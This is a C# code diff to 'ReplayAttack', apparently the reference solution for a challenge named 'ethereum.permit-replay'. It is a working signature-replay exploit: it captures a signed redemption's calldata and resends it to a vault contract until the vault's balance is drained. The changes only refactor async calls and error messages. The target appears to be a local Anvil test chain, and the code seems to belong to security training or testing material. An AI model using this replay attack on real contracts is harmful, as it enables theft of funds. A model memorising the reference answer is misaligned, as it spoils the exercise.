@@ -123,6 +123,7 @@ public static class PaymentSigner
 }
 
 /// <summary>Reference solution for ethereum.permit-replay: the attacker's side.</summary>
+/// <remarks>An attack script, not a library: no ConfigureAwait(false), there is no caller's context to avoid.</remarks>
 public sealed class ReplayAttack(IWeb3 web3)
 {
     public IWeb3 Web3 { get; } = web3;
@@ -130,7 +131,7 @@ public sealed class ReplayAttack(IWeb3 web3)
     public async Task<CapturedRedemption> CaptureAsync(string transactionHash, CancellationToken cancellationToken = default)
     {
         ArgumentException.ThrowIfNullOrWhiteSpace(transactionHash);
-        var transaction = await Web3.Eth.Transactions.GetTransactionByHash.SendRequestAsync(transactionHash).ConfigureAwait(false)
+        var transaction = await Web3.Eth.Transactions.GetTransactionByHash.SendRequestAsync(transactionHash)
             ?? throw new InvalidOperationException($"The node knows no transaction {transactionHash}.");
         var calldata = (transaction.Input ?? "0x").HexToByteArray();
 
@@ -158,14 +159,14 @@ public sealed class ReplayAttack(IWeb3 web3)
 
         // Each replay pays the same amount: as many as the vault's balance covers, and no more (one more would fail the
         // vault's transfer and only cost gas).
-        var balance = (await Web3.Eth.GetBalance.SendRequestAsync(vault).ConfigureAwait(false)).Value;
+        var balance = (await Web3.Eth.GetBalance.SendRequestAsync(vault)).Value;
         var redemptions = (int)BigInteger.Min(balance / captured.Amount, int.MaxValue);
         var data = captured.Calldata.ToHex(prefix: true);
         var from = Web3.TransactionManager.Account.Address;
         var receipts = new List<TransactionReceipt>();
         for (var i = 0; i < redemptions; i++)
         {
-            receipts.Add(await SendAsync(new TransactionInput { From = from, To = vault, Data = data }, i + 1, cancellationToken).ConfigureAwait(false));
+            receipts.Add(await SendAsync(new TransactionInput { From = from, To = vault, Data = data }, cancellationToken));
         }
 
         return new ReplayReport(redemptions, redemptions * captured.Amount, receipts);
@@ -173,24 +174,24 @@ public sealed class ReplayAttack(IWeb3 web3)
 
     // The gas estimate runs the redemption against the latest state: one the vault refuses fails there, before it is
     // signed. A transaction mined anyway is checked by its status: a receipt is not a success.
-    private async Task<TransactionReceipt> SendAsync(TransactionInput input, int replay, CancellationToken cancellationToken)
+    private async Task<TransactionReceipt> SendAsync(TransactionInput input, CancellationToken cancellationToken)
     {
         TransactionReceipt receipt;
         try
         {
             // Estimate first, always: a TransactionInput without Gas goes out with 21000 (a plain transfer's), which
             // Anvil takes into its pool and then never mines, so the wait for the receipt never ends.
-            input.Gas = await Web3.TransactionManager.EstimateGasAsync(input).ConfigureAwait(false);
-            receipt = await Web3.TransactionManager.SendTransactionAndWaitForReceiptAsync(input, cancellationToken).ConfigureAwait(false);
+            input.Gas = await Web3.TransactionManager.EstimateGasAsync(input);
+            receipt = await Web3.TransactionManager.SendTransactionAndWaitForReceiptAsync(input, cancellationToken);
         }
         catch (Exception e) when (e is SmartContractRevertException or SmartContractCustomErrorRevertException or RpcResponseException)
         {
-            throw new ReplayRefusedException($"The vault refused replay {replay}: {e.Message}", e);
+            throw new ReplayRefusedException($"The vault {input.To} refused the replay: {e.Message}", e);
         }
 
         if (receipt.Status?.Value != BigInteger.One)
         {
-            throw new ReplayRefusedException($"Replay {replay} was mined in block {receipt.BlockNumber?.Value} with status 0 (reverted): transaction {receipt.TransactionHash}.");
+            throw new ReplayRefusedException($"A replay was mined in block {receipt.BlockNumber?.Value} with status 0 (reverted): transaction {receipt.TransactionHash}.");
         }
 
         return receipt;
